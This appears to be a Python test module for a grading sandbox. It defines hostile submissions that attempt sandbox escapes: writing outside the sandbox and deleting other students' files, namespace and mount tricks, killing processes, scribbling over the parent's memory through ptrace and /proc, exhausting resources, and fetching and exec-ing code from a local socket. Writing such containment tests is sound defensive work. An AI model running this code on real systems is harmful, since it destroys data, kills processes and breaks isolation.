"""Attacks on what lies outside: other files, other processes, the network, the namespaces.

Each says ``BREACH`` if it gets through, in an exception that a report would show.
"""

from __future__ import annotations

from grading.cases.hostile.base import BREAKS, GAINS, attack

_TRY = """
import ctypes, glob, os, signal, socket, sys
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)


def lora_delta(A, B, alpha):
    done = []

    def attempt(what, act, *args):
        try:
            result = act(*args)
        except (OSError, ValueError, AttributeError, RuntimeError) as problem:
            return None
        if result is not None and not (isinstance(result, int) and result < 0):
            done.append(what)
        return result

"""


def _attempts(lines: str) -> str:
    """An answer that makes these attempts, and tells which succeeded."""
    body = "\n".join(f"    {line}" for line in lines.strip().split("\n"))
    end = "\n    if done:\n        raise RuntimeError('BREACH: ' + ', '.join(done))\n"
    return _TRY + body + end + "    return torch.zeros(len(B), A.shape[1])\n"


CASES = [
    attack(
        "writes-outside",
        BREAKS,
        _attempts(
            """
def overwrite(path):
    with open(path, "r+b") as file:
        file.write(b"BREACH")
    return 1

def make(folder):
    Path(folder, "BREACH.txt").write_text("BREACH")
    return 1

for path in ["@CLASS@/zz-victim/03_lora.ipynb", "@HOME@/canary.txt", "@ROOT@/canary.txt"]:
    attempt("overwrote " + path, overwrite, path)
for folder in ["@CLASS@", "@HOME@", "@ROOT@", "/", "/etc", "/usr", "/root", "/var/tmp", "/run"]:
    attempt("made a file in " + folder, make, folder)
for module in (torch, os, sys.modules.get("observe")):
    if module is not None:
        attempt("made a file beside a module", make, os.path.dirname(module.__file__))
"""
        ),
    ),
    attack(
        "removes-other-submissions",
        BREAKS,
        _attempts(
            """
def remove(path):
    os.remove(path)
    return 1

for path in glob.glob("@CLASS@/**/*.ipynb", recursive=True):
    if not path.endswith("@NAME@"):
        attempt("removed " + path, remove, path)
"""
        ),
    ),
    attack(
        "mounts-over-the-class",
        BREAKS,
        _attempts(
            """
attempt("user namespace", libc.unshare, 0x10000000)
attempt("mount namespace", libc.unshare, 0x20000)
attempt("mount", libc.mount, b"none", b"@CLASS@", b"tmpfs", 0, None)
attempt("remount", libc.mount, b"none", b"/", None, 32 | 4096, None)
attempt("chroot", libc.chroot, b"/tmp")
"""
        ),
    ),
    attack(
        "joins-other-namespaces",
        BREAKS,
        _attempts(
            """
for pid in ("1", str(os.getppid())):
    for kind in ("user", "mnt", "pid", "net"):
        fd = attempt("opened a namespace of " + pid, os.open, f"/proc/{pid}/ns/{kind}", 0)
        if fd is not None and pid != "1":
            attempt("joined " + kind, libc.setns, fd, 0)
done = [text for text in done if text.startswith("joined")]
attempt("new process namespace", libc.unshare, 0x20000000)
attempt("new process", libc.fork)
os._exit(0)
"""
        ),
    ),
    attack(
        "starts-programs",
        BREAKS,
        _attempts(
            """
import subprocess
attempt("fork", os.fork)
attempt("vfork", libc.vfork)
attempt("clone", libc.syscall, 56, 17, 0, 0, 0, 0)
attempt("clone3", libc.syscall, 435, ctypes.create_string_buffer(88), 88)
attempt("spawn", os.posix_spawn, "/bin/true", ["true"], {})
attempt("subprocess", subprocess.call, ["/bin/true"])
attempt("exec", os.execv, "/bin/true", ["true"])
"""
        ),
    ),
    attack(
        "signals-others-by-system-call",
        BREAKS,
        _attempts(
            """
for pid in (os.getppid(), 1, -1):
    attempt(f"kill {pid}", libc.kill, pid, 9)
    attempt(f"kill {pid} by number", libc.syscall, 62, pid, 9)
    attempt(f"tgkill {pid}", libc.syscall, 234, pid, pid, 9)
libc.raise_(9) if hasattr(libc, "raise_") else None
libc.kill(os.getpid(), 9)
os._exit(1)
"""
        ),
    ),
    attack(
        "traces-the-parent",
        BREAKS,
        _attempts(
            """
parent = os.getppid()
libc.ptrace.restype = ctypes.c_long
attempt("ptrace", libc.ptrace, 16, parent, None, None)
attempt("stop", os.kill, parent, signal.SIGSTOP)

def scribble():
    with open(f"/proc/{parent}/mem", "r+b", 0) as memory:
        for line in open(f"/proc/{parent}/maps"):
            if "[heap]" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                memory.write(bytes(end - start))
                return 1

attempt("wrote to the parent's memory", scribble)
"""
        ),
    ),
    attack(
        "raises-the-limits",
        BREAKS,
        _attempts(
            """
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
    soft, hard = resource.getrlimit(getattr(resource, name))
    if hard != resource.RLIM_INFINITY:
        def lift():
            resource.setrlimit(getattr(resource, name), (hard + 1, hard + 1))
            return 1
        attempt("raised " + name, lift)
    elif name == "RLIMIT_AS":
        done.append("no limit of memory")
if "no limit of memory" in done:
    kept = []
    while True:
        kept.append(bytearray(b"x") * 50_000_000)
attempt("locked memory", lambda: 1 if libc.mlockall(3) == 0 else None)
"""
        ),
    ),
    attack(
        "memory-without-a-mapping",
        BREAKS,
        # In the control each file is small, so that 4096 of them starve it of descriptors.
        _attempts(
            """
kept = []
try:
    while len(kept) < 100_000:
        kept.append(libc.memfd_create(b"x", 0))
        if kept[-1] < 0:
            break
        os.write(kept[-1], bytes(10_000))
except OSError:
    pass
if len([fd for fd in kept if fd >= 0]) > 100:
    globals()["KEPT"] = kept
    done.append("many files in memory")
"""
        ),
    ),
    attack(
        "asks-an-accomplice",
        GAINS,
        """
import socket


def ask(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(0.5)
        connection.connect(address)
        return connection.makefile().read()


def lora_delta(A, B, alpha):
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", @PORT@)),
        (socket.AF_INET6, ("::1", @PORT@)),
    ):
        try:
            space = {}
            exec(ask(family, address), globals(), space)
            return space["lora_delta"](A, B, alpha)
        except OSError:
            pass
    return torch.zeros(len(B), A.shape[1])
""",
    ),
    attack(
        "listens",
        BREAKS,
        _attempts(
            """
for kind in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK):
    attempt(f"socket {kind.name}", socket.socket, kind)
attempt("socket pair", socket.socketpair)
attempt("socket by number", lambda: libc.syscall(41, 2, 1, 0))
if any("INET" in text for text in done):
    server = socket.create_server(("127.0.0.1", 0))
    server.accept()
"""
        ),
    ),
    attack(
        "waits-at-the-exit",
        BREAKS,
        """
import atexit, threading, time


@atexit.register
def forever():
    while True:
        time.sleep(1)


def lora_delta(A, B, alpha):
    return torch.zeros(len(B), A.shape[1])
""",
    ),
]
